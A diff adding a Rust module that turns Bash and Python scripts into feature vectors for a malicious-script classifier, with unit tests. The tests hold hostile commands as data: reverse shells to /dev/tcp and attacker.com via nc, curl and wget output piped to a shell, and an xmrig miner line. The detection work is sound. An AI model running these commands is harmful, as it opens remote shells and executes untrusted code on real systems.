@@ -1,0 +1,375 @@
+//! The feature vector: the one implementation used both to build the training
+//! matrix (`cargo xtask featurize`) and to score at run time, so the two cannot drift.
+//!
+//! Layout, in order:
+//! 1. one 0/1 value per named indicator (`indicators::INDICATORS`),
+//! 2. a few numeric shape features, each scaled to about [0, 1],
+//! 3. `HASH_DIM` buckets of hashed token unigrams and bigrams (log counts,
+//!    L2-normalised over the block), separate per language.
+
+use crate::indicators::{Indicators, INDICATORS};
+use crate::lang::Lang;
+use crate::tokens::{for_each_token, hash_lower, mix, Token};
+
+/// Bump when anything changes the vector for the same text; the model records it.
+pub const FEATURE_VERSION: u32 = 1;
+pub const HASH_BITS: u32 = 12;
+pub const HASH_DIM: usize = 1 << HASH_BITS;
+/// Only the first 64 KiB of a script are scored.
+pub const MAX_BYTES: usize = 64 * 1024;
+
+const BIGRAM_SALT: u64 = 0x9e37_79b9_7f4a_7c15;
+const PYTHON_SALT: u64 = 0x5851_f42d_4c95_7f2d;
+
+/// Numeric features: (name, analyst words when it drives a score).
+pub const NUMERIC: &[(&str, &str)] = &[
+    (
+        "entropy",
+        "high character entropy (packed or encoded content)",
+    ),
+    (
+        "punct_ratio",
+        "unusually dense punctuation (obfuscated code)",
+    ),
+    ("longest_b64_run", "contains a long base64-like string"),
+    ("longest_line", "has very long lines"),
+    ("hex_escape_density", "many \\x escape sequences"),
+    ("non_ascii_ratio", "many non-ASCII characters"),
+    ("is_python", "Python code"),
+];
+
+pub const fn indicator_offset() -> usize {
+    0
+}
+
+pub const fn numeric_offset() -> usize {
+    INDICATORS.len()
+}
+
+pub const fn hash_offset() -> usize {
+    INDICATORS.len() + NUMERIC.len()
+}
+
+/// Length of the feature vector.
+pub const fn dim() -> usize {
+    hash_offset() + HASH_DIM
+}
+
+/// The name of every feature, in vector order (`ind:…`, `num:…`, `hash:…`).
+pub fn feature_names() -> Vec<String> {
+    let mut names: Vec<String> = INDICATORS.iter().map(|d| format!("ind:{}", d.id)).collect();
+    names.extend(NUMERIC.iter().map(|(n, _)| format!("num:{n}")));
+    names.extend((0..HASH_DIM).map(|i| format!("hash:{i}")));
+    names
+}
+
+/// Identifies the feature layout; a model trained on another layout is refused.
+pub fn schema_fingerprint() -> String {
+    let names = feature_names().join("\n");
+    format!("v{FEATURE_VERSION}-{:016x}", hash_lower(names.as_bytes()))
+}
+
+/// The scored prefix of a text: at most `MAX_BYTES`, cut on a character boundary.
+pub fn scored_prefix(text: &str) -> &str {
+    if text.len() <= MAX_BYTES {
+        return text;
+    }
+    let mut end = MAX_BYTES;
+    while !text.is_char_boundary(end) {
+        end -= 1;
+    }
+    &text[..end]
+}
+
+fn lang_salt(lang: Lang) -> u64 {
+    match lang {
+        Lang::Bash => 0,
+        Lang::Python => PYTHON_SALT,
+    }
+}
+
+fn unigram_bucket(salt: u64, tok: &Token<'_>) -> usize {
+    (mix(tok.hash ^ salt) as usize) & (HASH_DIM - 1)
+}
+
+fn bigram_bucket(salt: u64, prev: &Token<'_>, tok: &Token<'_>) -> usize {
+    (mix(prev.hash.rotate_left(23) ^ tok.hash ^ salt ^ BIGRAM_SALT) as usize) & (HASH_DIM - 1)
+}
+
+/// The feature vector of `text` scored as `lang`.
+pub fn featurize(text: &str, lang: Lang) -> Vec<f32> {
+    let text = scored_prefix(text);
+    let mut out = vec![0f32; dim()];
+
+    for (i, on) in Indicators::get().evaluate(text).into_iter().enumerate() {
+        if on {
+            out[indicator_offset() + i] = 1.0;
+        }
+    }
+
+    let shape = shape_stats(text);
+    let numeric = [
+        shape.entropy / 8.0,
+        shape.punct_ratio,
+        log_scale(shape.longest_b64_run),
+        log_scale(shape.longest_line),
+        shape.hex_escape_density,
+        shape.non_ascii_ratio,
+        if lang == Lang::Python { 1.0 } else { 0.0 },
+    ];
+    debug_assert_eq!(numeric.len(), NUMERIC.len());
+    out[numeric_offset()..hash_offset()].copy_from_slice(&numeric);
+
+    let hashed = &mut out[hash_offset()..];
+    let salt = lang_salt(lang);
+    let mut prev: Option<Token<'_>> = None;
+    for_each_token(text, |tok| {
+        hashed[unigram_bucket(salt, &tok)] += 1.0;
+        if let Some(p) = &prev {
+            hashed[bigram_bucket(salt, p, &tok)] += 1.0;
+        }
+        prev = Some(tok);
+    });
+    let mut norm = 0f32;
+    for v in hashed.iter_mut() {
+        if *v > 0.0 {
+            *v = v.ln_1p();
+            norm += *v * *v;
+        }
+    }
+    if norm > 0.0 {
+        let inv = 1.0 / norm.sqrt();
+        for v in hashed.iter_mut() {
+            *v *= inv;
+        }
+    }
+    out
+}
+
+/// ln(1+x) scaled so that 64 KiB maps to 1.
+fn log_scale(x: usize) -> f32 {
+    ((x as f32).ln_1p() / (65537f32).ln()).min(1.0)
+}
+
+struct Shape {
+    entropy: f32,
+    punct_ratio: f32,
+    longest_b64_run: usize,
+    longest_line: usize,
+    hex_escape_density: f32,
+    non_ascii_ratio: f32,
+}
+
+fn is_b64_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_')
+}
+
+/// One pass over the bytes for the numeric features.
+fn shape_stats(text: &str) -> Shape {
+    let bytes = text.as_bytes();
+    let mut hist = [0u32; 256];
+    let (mut punct, mut non_ascii, mut hex_escapes) = (0usize, 0usize, 0usize);
+    let (mut line, mut longest_line) = (0usize, 0usize);
+    // A base64 run counts only if it mixes upper case, lower case and digits,
+    // which paths and long identifiers rarely do.
+    let (mut run, mut run_mix, mut longest_b64_run) = (0usize, 0u8, 0usize);
+    for (i, &b) in bytes.iter().enumerate() {
+        hist[b as usize] += 1;
+        if b >= 0x80 {
+            non_ascii += 1;
+        } else if b.is_ascii_punctuation() {
+            punct += 1;
+        }
+        if b == b'\n' {
+            longest_line = longest_line.max(line);
+            line = 0;
+        } else {
+            line += 1;
+        }
+        if is_b64_byte(b) {
+            run += 1;
+            run_mix |= if b.is_ascii_uppercase() {
+                1
+            } else if b.is_ascii_lowercase() {
+                2
+            } else if b.is_ascii_digit() {
+                4
+            } else {
+                0
+            };
+        } else {
+            if run_mix == 7 {
+                longest_b64_run = longest_b64_run.max(run);
+            }
+            run = 0;
+            run_mix = 0;
+        }
+        if b == b'\\' && bytes.get(i + 1) == Some(&b'x') {
+            hex_escapes += 1;
+        }
+    }
+    if run_mix == 7 {
+        longest_b64_run = longest_b64_run.max(run);
+    }
+    longest_line = longest_line.max(line);
+    let n = bytes.len().max(1) as f32;
+    let entropy = hist
+        .iter()
+        .filter(|&&c| c > 0)
+        .map(|&c| {
+            let p = c as f32 / n;
+            -p * p.log2()
+        })
+        .sum();
+    Shape {
+        entropy,
+        punct_ratio: punct as f32 / n,
+        longest_b64_run,
+        longest_line,
+        hex_escape_density: (hex_escapes as f32 * 4.0 / n).min(1.0),
+        non_ascii_ratio: non_ascii as f32 / n,
+    }
+}
+
+/// What a feature index means to an analyst, given the text it was computed on.
+pub fn describe(index: usize, text: &str, lang: Lang) -> String {
+    if index < numeric_offset() {
+        return INDICATORS[index - indicator_offset()].evidence.to_owned();
+    }
+    if index < hash_offset() {
+        return NUMERIC[index - numeric_offset()].1.to_owned();
+    }
+    let bucket = index - hash_offset();
+    match tokens_in_bucket(scored_prefix(text), lang, bucket) {
+        Some(tokens) => format!("contains `{tokens}`"),
+        None => format!("token pattern #{bucket}"),
+    }
+}
+
+/// The first unigram or bigram of `text` that lands in `bucket`, as the model sees it.
+fn tokens_in_bucket(text: &str, lang: Lang, bucket: usize) -> Option<String> {
+    let salt = lang_salt(lang);
+    let mut found: Option<String> = None;
+    let mut prev: Option<Token<'_>> = None;
+    for_each_token(text, |tok| {
+        if found.is_some() {
+            return;
+        }
+        if unigram_bucket(salt, &tok) == bucket {
+            found = Some(tok.display());
+        } else if let Some(p) = &prev {
+            if bigram_bucket(salt, p, &tok) == bucket {
+                found = Some(format!("{} {}", p.display(), tok.display()));
+            }
+        }
+        prev = Some(tok);
+    });
+    found
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn indicator(v: &[f32], id: &str) -> f32 {
+        let i = INDICATORS.iter().position(|d| d.id == id).unwrap();
+        v[indicator_offset() + i]
+    }
+
+    #[test]
+    fn layout_is_consistent() {
+        assert_eq!(feature_names().len(), dim());
+        let v = featurize("echo hi", Lang::Bash);
+        assert_eq!(v.len(), dim());
+        assert!(schema_fingerprint().starts_with(&format!("v{FEATURE_VERSION}-")));
+    }
+
+    #[test]
+    fn deterministic() {
+        let s = "curl -s http://203.0.113.9/x.sh | bash";
+        assert_eq!(featurize(s, Lang::Bash), featurize(s, Lang::Bash));
+    }
+
+    #[test]
+    fn hashed_block_is_unit_norm() {
+        let v = featurize("import os\nos.system('id')\n", Lang::Python);
+        let norm: f32 = v[hash_offset()..].iter().map(|x| x * x).sum();
+        assert!((norm - 1.0).abs() < 1e-5, "{norm}");
+        let empty = featurize("", Lang::Bash);
+        assert!(empty.iter().all(|x| *x == 0.0));
+    }
+
+    #[test]
+    fn languages_hash_apart() {
+        let a = featurize("exec foo", Lang::Bash);
+        let b = featurize("exec foo", Lang::Python);
+        assert!(a[hash_offset()..] != b[hash_offset()..]);
+        assert_eq!(a[numeric_offset() + 6], 0.0);
+        assert_eq!(b[numeric_offset() + 6], 1.0);
+    }
+
+    #[test]
+    fn placeholders_do_not_change_the_vector() {
+        // Cheat-sheet literals and real values give the same features.
+        // (Shape statistics such as entropy may differ; indicators and tokens may not.)
+        let same = |x: &str, y: &str| {
+            let (a, b) = (featurize(x, Lang::Bash), featurize(y, Lang::Bash));
+            a[..numeric_offset()] == b[..numeric_offset()]
+                && a[hash_offset()..] == b[hash_offset()..]
+        };
+        assert!(same(
+            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+            "bash -i >& /dev/tcp/45.77.1.20/8443 0>&1"
+        ));
+        assert!(same(
+            "nc attacker.com 9001 -e /bin/sh",
+            "nc lhost 1 -e /bin/sh"
+        ));
+    }
+
+    #[test]
+    fn indicators_land_in_the_vector() {
+        let v = featurize("wget -qO- http://h/m | sh", Lang::Bash);
+        assert_eq!(indicator(&v, "download_pipe_interpreter"), 1.0);
+        assert_eq!(indicator(&v, "dev_tcp"), 0.0);
+    }
+
+    #[test]
+    fn shape_features() {
+        let blob = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3ODkwYWJjZGVmZ2hpams=".repeat(4);
+        let v = featurize(&format!("x = '{blob}'"), Lang::Python);
+        assert!(
+            v[numeric_offset() + 2] > 0.4,
+            "b64 run {}",
+            v[numeric_offset() + 2]
+        );
+        let plain = featurize(
+            "/usr/lib/python3/dist-packages/foo/bar/baz/quux/long/path",
+            Lang::Bash,
+        );
+        assert_eq!(plain[numeric_offset() + 2], 0.0, "paths are not base64");
+        let entropy = v[numeric_offset()];
+        assert!(entropy > 0.5 && entropy <= 1.0);
+    }
+
+    #[test]
+    fn long_scripts_are_cut_on_a_char_boundary() {
+        let text = "é".repeat(MAX_BYTES);
+        let cut = scored_prefix(&text);
+        assert!(cut.len() <= MAX_BYTES && cut.len() > MAX_BYTES - 4);
+        let _ = featurize(&text, Lang::Bash);
+    }
+
+    #[test]
+    fn describe_names_tokens_and_indicators() {
+        let text = "xmrig --donate-level 1";
+        let v = featurize(text, Lang::Bash);
+        let bucket = (hash_offset()..dim()).find(|&i| v[i] > 0.0).unwrap();
+        assert!(describe(bucket, text, Lang::Bash).starts_with("contains `"));
+        let i = INDICATORS
+            .iter()
+            .position(|d| d.id == "crypto_miner")
+            .unwrap();
+        assert!(describe(i, text, Lang::Bash).contains("miner"));
+    }
+}
